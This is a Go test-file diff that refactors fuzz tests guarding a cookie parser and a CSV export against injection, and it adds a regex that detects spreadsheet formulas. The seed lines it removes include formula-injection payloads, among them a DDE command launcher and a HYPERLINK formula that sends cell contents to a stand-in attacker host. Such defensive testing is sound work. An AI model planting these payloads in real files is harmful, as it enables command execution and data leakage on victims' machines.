@@ -3,6 +3,7 @@ package guise_test
 import (
 	"encoding/csv"
 	"net/http/httptest"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -13,12 +14,8 @@ import (
 // Cookie header: what carries a handle never runs as the actor, and as the
 // subject only with the right one.
 func FuzzCookie(f *testing.F) {
-	for _, seed := range []string{
-		"guise=TOKEN", "guise=", "guise", "guise =TOKEN", " guise=TOKEN", "guise=TOKEN; guise=TOKEN", "guise=\"TOKEN\"", "guise=TOKEN\t",
-		"Guise=TOKEN", "__Host-guise=TOKEN", "guise-over=1", "guise-over", "a=b; guise=x", "a=\"; guise=TOKEN", "guise=TOKEN, guise=x",
-		"guise=TOKEN\x00", "guise=%54OKEN", "$Version=1; guise=TOKEN", "=guise=TOKEN", ";;;guise=x;;;", "guise==TOKEN", "guise=TOKEN=",
-	} {
-		f.Add(seed)
+	for _, seed := range cookieAttacks {
+		f.Add(seed.text)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
 		w := newWorld(t, func(c *guise.Config) { c.DefaultMode = guise.ReadWrite })
@@ -50,11 +47,8 @@ func FuzzCookie(f *testing.F) {
 // FuzzExport exports whatever a reason may say: the file has the same rows and
 // columns, and no cell that a spreadsheet runs.
 func FuzzExport(f *testing.F) {
-	for _, seed := range []string{
-		"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "a\r\n=1", "\"=1", "a,b", "\"\"", "＝1", "|x", "%0A", "  =1", "\ufeff=1",
-		`=HYPERLINK("http://evil.example?x="&A1,"click")`,
-	} {
-		f.Add(seed)
+	for _, seed := range cellAttacks {
+		f.Add(seed.text)
 	}
 	f.Fuzz(func(t *testing.T, reason string) {
 		w := newWorld(t, nil)
@@ -68,9 +62,21 @@ func FuzzExport(f *testing.F) {
 			t.Fatalf("%q: %d rows, %v\n%s", reason, len(rows), err, file)
 		}
 		for _, cell := range rows[1] {
-			if cell != "" && strings.ContainsRune("=+-@\t\r\n|%＝＋－＠", []rune(cell)[0]) {
+			if formula.MatchString(cell) {
 				t.Errorf("%q: the cell %q is run by a spreadsheet", reason, cell)
 			}
 		}
+		if unmarked := strings.ReplaceAll(rows[1][7], "'", ""); unmarked != strings.ReplaceAll(recorded(reason), "'", "") {
+			t.Errorf("%q became %q", reason, rows[1][7])
+		}
 	})
+}
+
+// formula is what begins one, at the beginning of a cell or of what a
+// spreadsheet that parts cells at semicolons, tabs and line ends takes for one.
+var formula = regexp.MustCompile(`^[\t\r\n]|(?:^|[;\t\r\n])[\s\p{Z}\p{Cc}\p{Cf}"]*[=+\-@|%＝＋－＠]`)
+
+// recorded is the reason as it is kept and read back from a CSV file.
+func recorded(reason string) string {
+	return strings.ReplaceAll(strings.TrimSpace(reason), "\r\n", "\n")
 }
